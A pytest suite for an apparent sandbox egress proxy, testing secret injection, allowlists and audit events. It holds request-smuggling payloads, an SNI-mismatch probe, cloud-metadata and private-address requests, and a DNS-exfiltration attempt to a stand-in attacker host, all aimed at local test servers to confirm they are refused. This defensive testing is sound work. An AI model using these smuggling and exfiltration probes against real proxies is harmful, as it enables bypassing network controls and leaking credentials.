"""Network mode proxy: the adversarial suite (issue 5).

A daemon of its own with an egress config: a secret bound to api.test, static
names for the test hosts (all on loopback: nothing here leaves the machine),
and the test CA as the upstream trust store. Upstream servers are threads of
this process on 127.0.0.1. From inside sandboxes, every attempt to get out
some other way, or to carry the secret somewhere else, must fail and be
reported; the allowed paths must work, and the secret's value must never be
seen inside, in the events or in the daemon's log.
"""

from __future__ import annotations

import http.server
import json
import os
import queue
import shutil
import socket
import ssl
import subprocess
import threading
import time
from pathlib import Path

import pytest

from conftest import Daemon

SECRET = "s3cr3t-" + os.urandom(8).hex()
ADDED = "added-" + os.urandom(8).hex()


def openssl(*args: str, cwd: Path) -> None:
    subprocess.run(["openssl", *args], cwd=cwd, check=True, capture_output=True)


def make_pki(d: Path) -> None:
    """A test CA and leaf certificates for api.test and other.test (openssl CLI)."""
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
            "-subj", "/CN=airlock test CA", "-keyout", "ca.key", "-out", "ca.pem",
            "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign", cwd=d)
    for name in ("api.test", "other.test"):
        openssl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", f"/CN={name}",
                "-keyout", f"{name}.key", "-out", f"{name}.csr", cwd=d)
        (d / f"{name}.ext").write_text(f"subjectAltName=DNS:{name}\nextendedKeyUsage=serverAuth\n")
        openssl("x509", "-req", "-in", f"{name}.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
                "-days", "2", "-extfile", f"{name}.ext", "-out", f"{name}.pem", cwd=d)


class Upstream:
    """An HTTP(S) server on 127.0.0.1 that answers with what it received and
    records every request's headers."""

    def __init__(self, cert: Path | None = None, key: Path | None = None) -> None:
        self.requests: "queue.Queue[dict]" = queue.Queue()
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:  # quiet
                pass

            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                seen = {"method": self.command, "path": self.path, "headers": dict(self.headers.items()),
                        "body": body.decode(errors="replace")}
                outer.requests.put(seen)
                out = json.dumps(seen).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(out)))
                # Reflects the credential back in a header too.
                self.send_header("X-Echo-Authorization", self.headers.get("Authorization", ""))
                self.end_headers()
                self.wfile.write(out)

            do_GET = _answer
            do_POST = _answer

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        if cert is not None:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            ctx.load_cert_chain(str(cert), str(key))
            self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def take(self, timeout: float = 5.0) -> dict:
        return self.requests.get(timeout=timeout)

    def idle(self) -> bool:
        return self.requests.empty()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class EgressDaemon(Daemon):
    def __init__(self, base: Path, config: Path) -> None:
        super().__init__(base, "egress")
        self.config = config

    def argv(self) -> list[str]:
        return super().argv() + ["--config", str(self.config)]


@pytest.fixture(scope="module")
def env(base_dir: Path):
    if not shutil.which("openssl"):
        pytest.skip("no openssl CLI (tools/setup.sh installs it)")
    d = base_dir / "egress"
    d.mkdir(exist_ok=True)
    make_pki(d)
    secret_file = d / "api.secret"
    secret_file.write_text(SECRET + "\n")
    os.chmod(secret_file, 0o600)
    api = Upstream(d / "api.test.pem", d / "api.test.key")
    other = Upstream(d / "other.test.pem", d / "other.test.key")
    plain = Upstream()
    config = {
        "egress": {
            "user": "nobody",
            "upstream_ca_file": str(d / "ca.pem"),
            "resolve": {"api.test": ["127.0.0.1"], "other.test": ["127.0.0.1"], "plain.test": ["127.0.0.1"],
                        "lo.test": ["127.0.0.1"], "meta.test": ["169.254.169.254"], "priv.test": ["10.0.0.1"],
                        "mapped.test": ["::ffff:127.0.0.1"]},
            "secrets": {
                "api": {"value_file": str(secret_file), "env": "API_TOKEN", "hosts": ["api.test"],
                        "header": "Authorization"},
                "added": {"value": ADDED, "env": "ADDED_TOKEN", "hosts": ["api.test"], "header": "X-Api-Key",
                          "add": "{value}"},
            },
            "expose_address": "127.0.0.1",
        }
    }
    cfg = d / "airlockd.json"
    cfg.write_text(json.dumps(config))
    os.chmod(cfg, 0o600)
    daemon = EgressDaemon(base_dir, cfg)
    daemon.start()
    client = daemon.client()
    yield {"daemon": daemon, "client": client, "api": api, "other": other, "plain": plain, "dir": d}
    client.close()
    daemon.destroy_all()
    status = daemon.stop()
    for u in (api, other, plain):
        u.close()
    log = daemon.log_path.read_text(errors="replace")
    assert SECRET not in log and ADDED not in log, "a secret value reached the daemon's log"
    assert status == 0, daemon.log_tail()
    assert not daemon.leftovers()


@pytest.fixture(scope="module")
def box(env):
    """A sandbox allowed api.test, other.test, plain.test and the loopback they resolve to."""
    s = env["client"].create(network="proxy", labels={"test": "egress"},
                             egress={"allow": ["api.test", "other.test", "plain.test", "127.0.0.1/32"],
                                     "secrets": ["api", "added"]})
    yield s
    s.delete()


def py(session, code: str, stdin: str | None = None, **env) -> str:
    """Runs python3 code inside; returns stdout+stderr (the code prints its findings)."""
    r = session.exec(["python3", "-c", code], env={k: str(v) for k, v in env.items()}, timeout_ms=30000,
                     stdin=stdin)
    return (r.stdout + r.stderr).decode(errors="replace")


FETCH = r"""
import os, sys, urllib.request, urllib.error
url = os.environ["URL"]
headers = {}
for kv in os.environ.get("HDRS", "").split("|"):
    if kv:
        k, v = kv.split("=", 1)
        headers[k] = v.replace("$API_TOKEN", os.environ.get("API_TOKEN", ""))
try:
    r = urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=20)
    print("STATUS", r.status)
    print("ECHO", r.headers.get("X-Echo-Authorization"))
    print(r.read().decode())
except urllib.error.HTTPError as e:
    print("HTTP", e.code, e.read().decode())
except Exception as e:
    print("ERR", type(e).__name__, e)
"""


def egress_events(env, sandbox_id: str, until, timeout: float = 10.0) -> list:
    """The sandbox's EGRESS audits (from the stored log on) until until(audits)."""
    deadline = time.monotonic() + timeout
    seen = []
    stream = env["client"].events(sandbox_id=sandbox_id, from_start=True)
    q: "queue.Queue" = queue.Queue()

    def pump():
        try:
            for e in stream:
                q.put(e)
        except Exception:
            pass

    threading.Thread(target=pump, daemon=True).start()
    try:
        while not until(seen):
            left = deadline - time.monotonic()
            assert left > 0, f"egress events so far: {seen}"
            try:
                e = q.get(timeout=left)
            except queue.Empty:
                continue
            if e.type == "EGRESS":
                seen.append(e.egress)
    finally:
        stream.cancel()
    return seen


# --- what the sandbox gets ---------------------------------------------------------------------

def test_environment_has_placeholders_not_values(box):
    out = py(box, "import os; print('\\n'.join(k + '=' + v for k, v in sorted(os.environ.items())))")
    assert "API_TOKEN=airlock:api" in out
    assert "ADDED_TOKEN=airlock:added" in out
    assert "HTTPS_PROXY=http://127.0.0.1:3128" in out and "https_proxy=http://127.0.0.1:3128" in out
    assert "SSL_CERT_FILE=/etc/airlock/ca-bundle.pem" in out
    assert SECRET not in out and ADDED not in out


def test_secret_not_in_files_or_processes(box):
    # Everything the sandbox can read: its files (a bounded scan of where it
    # could be) and every process's environment and command line.
    out = py(box, r"""
import os, sys
needle = sys.stdin.read().encode()  # not in this process's own environment
hits = []
for root in ("/etc", "/tmp", "/workspace", "/root", "/proc"):
    for dirpath, dirs, files in os.walk(root):
        if dirpath.startswith("/proc/") and dirpath.count("/") > 2:
            dirs[:] = []
        for f in files:
            p = os.path.join(dirpath, f)
            if dirpath.startswith("/proc") and f not in ("environ", "cmdline"):
                continue
            try:
                with open(p, "rb") as fh:
                    if needle in fh.read(1 << 20):
                        hits.append(p)
            except Exception:
                pass
print("HITS", hits)
comms = set()
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        comms.add(open("/proc/%s/comm" % pid).read().strip())
    except OSError:
        pass
print("COMMS", sorted(comms))
""", stdin=SECRET)
    assert "HITS []" in out
    # Neither the daemon nor the proxy is even visible (its own pid namespace):
    # no /proc/<pid>/environ or mem of theirs to read, no pid to ptrace.
    comms = out.split("COMMS", 1)[1]
    assert "airlock-proxy" not in comms and "airlockd" not in comms, comms


# --- the allowed paths -------------------------------------------------------------------------

def test_placeholder_swapped_for_the_bound_host_and_redacted_back(env, box):
    api = env["api"]
    out = py(box, FETCH, URL=f"https://api.test:{api.port}/v1/thing", HDRS="Authorization=Bearer $API_TOKEN")
    assert "STATUS 200" in out, out
    seen = api.take()
    assert seen["headers"]["Authorization"] == "Bearer " + SECRET  # the real credential arrived
    assert seen["headers"]["X-Api-Key"] == ADDED  # the rule that adds a header
    # The response reflected both values: the sandbox saw neither.
    assert SECRET not in out and ADDED not in out
    assert "ECHO Bearer " in out


def test_plain_tunnel_to_an_allowed_host(env, box):
    other = env["other"]
    # other.test has no secret bound: a tunnel, not intercepted; the sandbox
    # must then trust the upstream's own CA, which it is given here.
    box.write("/tmp/other-ca.pem", (env["dir"] / "ca.pem").read_bytes())
    out = py(box, FETCH.replace("urllib.request.urlopen(", "urllib.request.urlopen(context=__import__('ssl').create_default_context(cafile='/tmp/other-ca.pem'), url="),
             URL=f"https://other.test:{other.port}/hello")
    assert "STATUS 200" in out, out
    assert other.take()["path"] == "/hello"


def test_plain_http_to_an_allowed_host(env, box):
    plain = env["plain"]
    out = py(box, FETCH, URL=f"http://plain.test:{plain.port}/p")
    assert "STATUS 200" in out, out
    assert plain.take()["path"] == "/p"


# --- what must fail, and be reported ------------------------------------------------------------

def test_host_not_on_the_allowlist(env, box):
    out = py(box, FETCH, URL="https://evil.test/")
    assert "ERR" in out and "403" in out, out


def test_loopback_metadata_private_by_name_refused(env):
    # Allowed by name, refused by address: nothing is ever dialled.
    s = env["client"].create(network="proxy", egress={"allow": ["lo.test", "meta.test", "priv.test", "mapped.test"]})
    try:
        port = env["plain"].port
        for url, why in ((f"http://lo.test:{port}/", "loopback"), ("http://meta.test/latest/meta-data/", "link-local"),
                         ("http://priv.test/", "private"), (f"http://mapped.test:{port}/", "loopback")):
            out = py(s, FETCH, URL=url)
            assert "HTTP 403" in out and why in out, (url, out)
        assert env["plain"].idle()
    finally:
        s.delete()


def test_placeholder_to_another_host_refused(env, box):
    plain = env["plain"]
    out = py(box, FETCH, URL=f"http://plain.test:{plain.port}/x", HDRS="Authorization=Bearer $API_TOKEN")
    assert "HTTP 403" in out and "secret" in out, out
    assert plain.idle()


def test_placeholder_in_another_header_refused(env, box):
    api = env["api"]
    out = py(box, FETCH, URL=f"https://api.test:{api.port}/x", HDRS="X-Leak=$API_TOKEN")
    assert "HTTP 403" in out, out
    assert api.idle()


def test_downgrade_to_http_refused(env, box):
    # The bound host over plain HTTP: the secret would travel in clear text.
    api = env["api"]
    out = py(box, FETCH, URL=f"http://api.test:{api.port}/x", HDRS="Authorization=Bearer $API_TOKEN")
    assert "HTTP 403" in out and "TLS" in out, out
    assert api.idle()


RAW = r"""
import os, socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(os.environ["REQ"].encode().decode("unicode_escape").encode("latin-1"))
data = b""
try:
    while True:
        b = s.recv(4096)
        if not b:
            break
        data += b
except Exception as e:
    data += repr(e).encode()
print(data.decode(errors="replace").splitlines()[0] if data else "EMPTY")
"""


@pytest.mark.parametrize("req", [
    r"CONNECT api.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n",             # Host differs from the target
    r"GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nX: a\rb\r\n\r\n",  # bare CR
    r"GET http://plain.test/ HTTP/1.1\nHost: plain.test\n\n",                # bare LF
    r"GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n Folded: x\r\n\r\n",  # obs-fold
    r"GET http://plain.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",  # userinfo trick
    r"GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n",  # two Hosts
    r"GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
    r"GET /relative HTTP/1.1\r\nHost: plain.test\r\n\r\n",                   # origin-form to a proxy
])
def test_smuggling_refused(env, box, req):
    out = py(box, RAW, REQ=req)
    assert out.startswith("HTTP/1.1 400") or out.startswith("HTTP/1.1 403"), (req, out)
    assert env["plain"].idle()


def test_sni_must_match_the_connect_host(env, box):
    other = env["other"]
    out = py(box, r"""
import os, socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(("CONNECT other.test:%s HTTP/1.1\r\nHost: other.test:%s\r\n\r\n" % (os.environ["P"], os.environ["P"])).encode())
print(s.recv(4096).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="evil.test")
    print("HANDSHAKE OK")
except Exception as e:
    print("REFUSED", type(e).__name__)
""", P=other.port)
    assert "HTTP/1.1 200" in out and "REFUSED" in out, out
    assert other.idle()


def test_client_hello_split_across_segments(env, box):
    # The proxy peeks at the ClientHello until it is whole: one that arrives
    # in two pieces, 200 ms apart, still gets its tunnel.
    other = env["other"]
    box.write("/tmp/other-ca.pem", (env["dir"] / "ca.pem").read_bytes())
    out = py(box, r"""
import os, socket, ssl, time
p = int(os.environ["P"])
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT other.test:%d HTTP/1.1\r\nHost: other.test:%d\r\n\r\n" % (p, p))
print(s.recv(4096).split(b"\r\n")[0].decode())
ctx = ssl.create_default_context(cafile="/tmp/other-ca.pem")
inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
t = ctx.wrap_bio(inc, outg, server_hostname="other.test")
try:
    t.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = outg.read()
s.sendall(hello[:40]); time.sleep(0.2); s.sendall(hello[40:])
while True:
    try:
        t.do_handshake(); break
    except ssl.SSLWantReadError:
        data = s.recv(65536)
        if not data: raise SystemExit("CLOSED")
        inc.write(data)
        s.sendall(outg.read())
s.sendall(outg.read())
t.write(b"GET /split HTTP/1.1\r\nHost: other.test:%d\r\nConnection: close\r\n\r\n" % p)
s.sendall(outg.read())
resp = b""
while b"\r\n" not in resp:
    try:
        resp += t.read(4096)
    except ssl.SSLWantReadError:
        inc.write(s.recv(65536))
print(resp.split(b"\r\n")[0].decode())
""", P=other.port)
    assert "HTTP/1.1 200 Connection established" in out and "HTTP/1.1 200 OK" in out, out
    assert other.take()["path"] == "/split"


def test_no_way_out_but_the_proxy(env, box):
    # Direct connections: no route (only lo); UDP and DNS: nothing answers.
    out = py(box, r"""
import socket
for addr in (("203.0.113.7", 443), ("127.0.0.53", 53)):
    try:
        socket.create_connection(addr, timeout=3); print("CONNECTED", addr)
    except Exception as e:
        print("FAILED", addr, type(e).__name__)
try:
    socket.getaddrinfo("data.attacker.example", 443); print("RESOLVED")
except Exception as e:
    print("NO DNS", type(e).__name__)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("203.0.113.7", 53)); print("SENT")
except Exception as e:
    print("UDP FAILED", type(e).__name__)
""")
    assert "CONNECTED" not in out and "RESOLVED" not in out, out
    assert "UDP FAILED" in out, out


def test_decisions_are_audited(env, box):
    api = env["api"]
    py(box, FETCH, URL="https://evil.test/")
    py(box, FETCH, URL=f"https://api.test:{api.port}/audit", HDRS="Authorization=Bearer $API_TOKEN")
    api.take()
    evs = egress_events(env, box.id,
                        lambda ev: any(e["destination"] == "evil.test" for e in ev)
                        and any(e["destination"] == "api.test" and e["allowed"] and e["bytes_in"] > 0 for e in ev))
    denied = [e for e in evs if e["destination"] == "evil.test"][-1]
    assert not denied["allowed"] and "allowlist" in denied["reason"]
    ok = [e for e in evs if e["destination"] == "api.test" and e["allowed"]][-1]
    assert "api" in ok["secrets"] and ok["address"] == "127.0.0.1"
    for e in evs:
        assert SECRET not in json.dumps(e)


def test_proxy_is_unprivileged_and_unreadable(env):
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    proxies = []
    for p in pids:
        try:
            if Path(f"/proc/{p}/comm").read_text().strip() == "airlock-proxy":
                st = os.stat(f"/proc/{p}")
                proxies.append((int(p), st.st_uid))
        except OSError:
            pass
    mine = [p for p, uid in proxies if str(env["daemon"].pid) == Path(f"/proc/{p}/stat").read_text().split()[3]]
    assert mine, f"no airlock-proxy child of airlockd {env['daemon'].pid}: {proxies}"
    pid = mine[0]
    status = Path(f"/proc/{pid}/status").read_text()
    uid_line = [l for l in status.splitlines() if l.startswith("Uid:")][0].split()
    assert all(u != "0" for u in uid_line[1:]), uid_line
    # Another process of the same user can't read its memory or environment.
    r = subprocess.run(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "cat",
                        f"/proc/{pid}/environ"], capture_output=True)
    assert r.returncode != 0, r


def test_proxy_crash_costs_only_its_connections(env, box):
    daemon = env["daemon"]
    pid = next(int(p) for p in os.listdir("/proc") if p.isdigit() and _is_proxy_of(int(p), daemon.pid))
    os.kill(pid, 9)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if any(_is_proxy_of(int(p), daemon.pid) for p in os.listdir("/proc") if p.isdigit() and int(p) != pid):
            break
        time.sleep(0.1)
    api = env["api"]
    out = py(box, FETCH, URL=f"https://api.test:{api.port}/after-crash", HDRS="Authorization=Bearer $API_TOKEN")
    assert "STATUS 200" in out, out
    assert api.take()["headers"]["Authorization"] == "Bearer " + SECRET
    assert box.exec(["true"]).ok


def _is_proxy_of(pid: int, parent: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
        return Path(f"/proc/{pid}/comm").read_text().strip() == "airlock-proxy" and int(stat.split()[3]) == parent
    except OSError:
        return False


def test_exposed_port(env):
    s = env["client"].create(network="proxy", expose_ports=[8000])
    try:
        host = s.refresh().exposed_ports[8000]
        s.start_process(["python3", "-m", "http.server", "8000", "--bind", "127.0.0.1", "--directory", "/etc"])
        addr, port = host.rsplit(":", 1)
        deadline = time.monotonic() + 10
        body = b""
        while time.monotonic() < deadline:
            try:
                with socket.create_connection((addr, int(port)), timeout=5) as c:
                    c.sendall(b"GET /hostname HTTP/1.0\r\n\r\n")
                    body = b""
                    while chunk := c.recv(4096):
                        body += chunk
                if body.startswith(b"HTTP/1.0 200"):
                    break
            except OSError:
                pass
            time.sleep(0.2)
        assert body.startswith(b"HTTP/1.0 200"), body
    finally:
        s.delete()


def test_bad_policies_name_the_field(env):
    from airlock_client import InvalidArgument  # noqa: E402
    c = env["client"]
    with pytest.raises(InvalidArgument, match=r"create\.egress\.allow"):
        c.create(network="proxy", egress={"allow": ["*.x*"]})
    with pytest.raises(InvalidArgument, match=r"create\.egress\.secrets\[0\]"):
        c.create(network="proxy", egress={"secrets": ["nope"]})
    with pytest.raises(InvalidArgument, match=r"create\.egress"):
        c.create(egress={"allow": ["api.test"]})
    with pytest.raises(InvalidArgument, match=r"create\.expose_ports\[0\]"):
        c.create(network="proxy", expose_ports=[0])


# --- transparent mode --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def tbox(env):
    """Transparent mode: programs that ignore proxy settings are held to the policy too."""
    s = env["client"].create(network="proxy", labels={"test": "egress-transparent"},
                             egress={"allow": ["api.test", "plain.test", "127.0.0.1/32"], "secrets": ["api"],
                                     "transparent": True})
    yield s
    s.delete()


NO_PROXY_ENV = {"HTTP_PROXY": "", "HTTPS_PROXY": "", "http_proxy": "", "https_proxy": ""}


def test_transparent_plain_socket_reaches_an_allowed_host(env, tbox):
    plain = env["plain"]
    out = py(tbox, r"""
import os, socket
addr = socket.getaddrinfo("plain.test", int(os.environ["P"]), socket.AF_INET, socket.SOCK_STREAM)[0][4]
print("ADDR", addr[0])
s = socket.create_connection(addr, timeout=10)
s.sendall(b"GET /raw HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n")
print(s.recv(100).split(b"\r\n")[0].decode())
""", P=plain.port, **NO_PROXY_ENV)
    assert "ADDR 198.18." in out, out  # a made-up address: no real lookup happened
    assert "HTTP/1.1 200" in out, out
    assert plain.take()["path"] == "/raw"


def test_transparent_dns_exfiltration_goes_nowhere(env, tbox):
    out = py(tbox, r"""
import socket
a = socket.getaddrinfo("c2VjcmV0.attacker.example", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
print("ADDR", a[0])
try:
    c = socket.create_connection(a, timeout=10); c.sendall(b"GET / HTTP/1.1\r\n\r\n"); print("DATA", c.recv(1))
except Exception as e:
    print("REFUSED", type(e).__name__)
for target in (("203.0.113.7", 443), ("203.0.113.7", 22)):
    try:
        c = socket.create_connection(target, timeout=10); c.sendall(b"x"); print("DATA", c.recv(1))
    except Exception as e:
        print("REFUSED", target, type(e).__name__)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("203.0.113.7", 9999)); print("UDP SENT")
except Exception as e:
    print("UDP", type(e).__name__)
""", **NO_PROXY_ENV)
    assert "ADDR 198.18." in out, out
    # Accepted by the relay (a local connect), then reset: not one byte comes back.
    assert "DATA" not in out and out.count("REFUSED") == 3, out
    assert "UDP PermissionError" in out, out
    evs = egress_events(env, tbox.id, lambda ev: any(e["destination"] == "c2vjcmv0.attacker.example" for e in ev))
    e = [e for e in evs if e["destination"] == "c2vjcmv0.attacker.example"][-1]
    # Refused on its name, before any lookup: no address was ever resolved.
    assert not e["allowed"] and e["address"] == "" and "allowlist" in e["reason"], e


@pytest.mark.skipif(not shutil.which("node"), reason="no node (Debian's nodejs; tools/setup.sh installs it)")
def test_transparent_node_fetch_gets_the_credential_injected(env, tbox):
    api = env["api"]
    r = tbox.exec(["node", "-e", """
fetch(process.env.URL, {headers: {authorization: 'Bearer ' + process.env.API_TOKEN}})
  .then(async r => console.log('STATUS', r.status, (await r.text()).length))
  .catch(e => console.log('ERR', e.cause ? e.cause.code || e.cause.message : e.message));
"""], env={"URL": f"https://api.test:{api.port}/node", **NO_PROXY_ENV}, timeout_ms=30000)
    out = (r.stdout + r.stderr).decode(errors="replace")
    assert "STATUS 200" in out, out
    seen = api.take()
    headers = {k.lower(): v for k, v in seen["headers"].items()}
    assert seen["path"] == "/node" and headers["authorization"] == "Bearer " + SECRET
    assert SECRET not in out


def test_config_with_secrets_must_be_private(env, base_dir):
    d = env["dir"]
    cfg = d / "loose.json"
    cfg.write_text(json.dumps({"egress": {"secrets": {"x": {"value": "0123456789abcdef", "env": "X",
                                                              "hosts": ["a.test"], "header": "Authorization"}}}}))
    os.chmod(cfg, 0o644)
    r = subprocess.run([str(env["daemon"].binary), "--config", str(cfg), "--socket", str(d / "loose.sock"),
                        "--state-dir", str(d / "loose-state")], capture_output=True, text=True, timeout=30)
    assert r.returncode != 0 and "mode 0600" in r.stderr, r.stderr
    assert "0123456789abcdef" not in r.stderr
    loose_secret = d / "loose.secret"
    loose_secret.write_text("0123456789abcdef\n")
    os.chmod(loose_secret, 0o644)
    cfg.write_text(json.dumps({"egress": {"secrets": {"x": {"value_file": str(loose_secret), "env": "X",
                                                              "hosts": ["a.test"], "header": "Authorization"}}}}))
    os.chmod(cfg, 0o600)
    r = subprocess.run([str(env["daemon"].binary), "--config", str(cfg), "--socket", str(d / "loose.sock"),
                        "--state-dir", str(d / "loose-state")], capture_output=True, text=True, timeout=30)
    assert r.returncode != 0 and "egress.secrets.x.value_file" in r.stderr, r.stderr
    assert "0123456789abcdef" not in r.stderr
